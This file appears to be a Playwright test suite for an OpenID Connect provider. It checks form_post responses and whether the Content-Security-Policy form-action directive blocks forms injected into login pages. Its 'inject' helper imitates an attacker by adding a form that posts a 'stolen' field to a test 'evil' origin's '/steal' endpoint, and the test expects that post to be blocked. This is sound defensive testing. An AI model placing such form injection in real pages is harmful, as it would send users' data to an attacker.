// Answers that travel in a form, and what `form-action` lets a page of ours do in Chromium.

import { EMAIL, eventually, expect, PASSWORD } from './house.mjs';
import { press, register, silently } from './steps.mjs';

const SCRIPT = '**/static/form_post.js';
const FORM = { response_mode: 'form_post' };

// What keeps the portal from getting an ID token for the code: nothing, or the error.
async function refusal(house, portal, client, { code }) {
  const body = new URLSearchParams({ grant_type: 'authorization_code', code, redirect_uri: portal.callback });
  const who = Buffer.from(`${client}:${house.secrets[client]}`).toString('base64');
  const headers = { authorization: `Basic ${who}` };
  const answer = await fetch(`${house.issuer}/token`, { method: 'POST', headers, body, signal: AbortSignal.timeout(60_000) });
  const told = await answer.json();
  return told.id_token ? '' : told;
}

function right(house, heard) {
  return heard.method === 'POST' && heard.says.iss === house.issuer && heard.says.state === 's' && heard.says.code;
}

export async function formPost({ house, portal, fresh }) {
  const page = await fresh();
  await page.goto(house.request('own', portal, FORM));
  await register(house, page, EMAIL, PASSWORD);
  let heard = await portal.hears('the form that submits itself');
  expect(right(house, heard), 'form_post: a login ends in a form that submits itself', heard);
  let why = await refusal(house, portal, 'own', heard.says);
  expect(!why, 'form_post: its code is worth an ID token', why);

  // It submits itself as soon as it is there.
  await page.goto(house.request('other', portal, { ...FORM, prompt: 'none' }), { waitUntil: 'commit' });
  heard = await portal.hears('an error in a form');
  expect(heard.method === 'POST' && heard.says.error === 'consent_required', 'form_post: errors travel so too', heard);

  // The same browser, and no script any more.
  const state = await page.context().storageState();
  const bare = await fresh({ javaScriptEnabled: false, storageState: state });
  await bare.goto(house.request('own', portal, FORM));
  expect(portal.heard.length === 0 && (await bare.isVisible('#continue')), 'form_post: without scripts there is a button', portal.heard);
  await press(bare, '#continue');
  heard = await portal.hears('the form by its button');
  expect(right(house, heard), 'form_post: which carries the same', heard);
  why = await refusal(house, portal, 'own', heard.says);
  expect(!why, 'form_post: and its code is worth an ID token', why);
  await bare.context().close();
  await page.context().close();
}

// Puts a form into a page as an attacker would who found a hole in it, and submits it. Gives where the browser said no, if it did.
async function inject(page, action) {
  return page.evaluate((to) => new Promise((done) => {
    document.addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective), { once: true });
    const form = Object.assign(document.createElement('form'), { method: 'post', action: to });
    form.append(Object.assign(document.createElement('input'), { name: 'stolen', value: 'yes' }));
    document.body.append(form);
    form.submit();
  }), action).catch((gone) => {
    // The page is gone with its script: the form was let through.
    if (/context was destroyed|navigat|closed/i.test(gone.message)) return 'let through';
    throw gone;
  });
}

export async function formAction({ house, portal, evil, fresh }) {
  const page = await fresh();
  // The page that carries an answer stays: its script does not come.
  await page.route(SCRIPT, (route) => route.abort());
  const pages = {
    'the first page of a login': async () => page.goto(house.request('own', portal)),
    'the page that carries an answer': async () => page.goto(house.request('own', portal, { ...FORM, prompt: 'none' })),
  };
  for (const [name, open] of Object.entries(pages)) {
    await open();
    const said = await inject(page, `${evil.origin}/steal`);
    expect(said === 'form-action', `form-action: ${name} posts nothing to another origin`, said);
    expect(evil.heard.length === 0, 'form-action: and nothing arrived there', evil.heard);
    await open();
    const twin = await inject(page, portal.callback);
    const heard = await portal.hears('the injected form');
    // Until it is there, another address would be cut off by it.
    await page.waitForURL(portal.callback);
    expect(twin === 'let through' && heard.says.stolen === 'yes', `form-action: ${name} may post to its portal`, { twin, heard });
  }
  await page.context().close();
  await redirects({ house, portal, fresh });
}

// A redirect after a form to the portal, which is another origin: Chromium holds that against `form-action` too.
async function redirects({ house, portal, fresh }) {
  const page = await fresh();
  await page.goto(house.request('other', portal));
  await register(house, page, 'de.boer@voorbeeld.nl', PASSWORD);
  let violations = 0;
  page.on('console', (message) => { violations += /form-action/.test(message.text()) ? 1 : 0; });
  await press(page, '#allow');
  const heard = await portal.hears('the redirect after a form');
  const came = heard.method === 'GET' && heard.says.code && violations === 0;
  expect(came, 'form-action: the redirect after a form reaches the portal', { heard, violations });
  expect((await silently(house, page, portal)) === 'logged in', 'form-action: and the session is there');

  // The same page, whose header leaves the portal out. Told and not held against us: it is Chromium that is free to change it.
  await page.route(`${house.issuer}/login/**`, async (route) => {
    if (route.request().method() !== 'GET') return route.continue();
    const answer = await route.fetch({ maxRedirects: 0 });
    const headers = answer.headers();
    const policy = headers['content-security-policy'];
    if (policy) headers['content-security-policy'] = policy.replace(` ${portal.origin}`, '');
    return route.fulfill({ response: answer, headers });
  });
  await page.goto(house.request('other', portal, { prompt: 'consent' }));
  // The route does not see what a redirect led to.
  await page.goto(page.url());
  await page.click('#allow');
  await eventually('the browser to say what it blocked, or the portal to hear', () => violations > 0 || portal.heard.length > 0);
  const blocked = violations > 0 && portal.heard.length === 0;
  console.log(`-- a redirect after a form to an origin that form-action leaves out: ${blocked ? 'blocked' : 'followed'} by this Chromium`);
  portal.heard = [];
  await page.context().close();
}
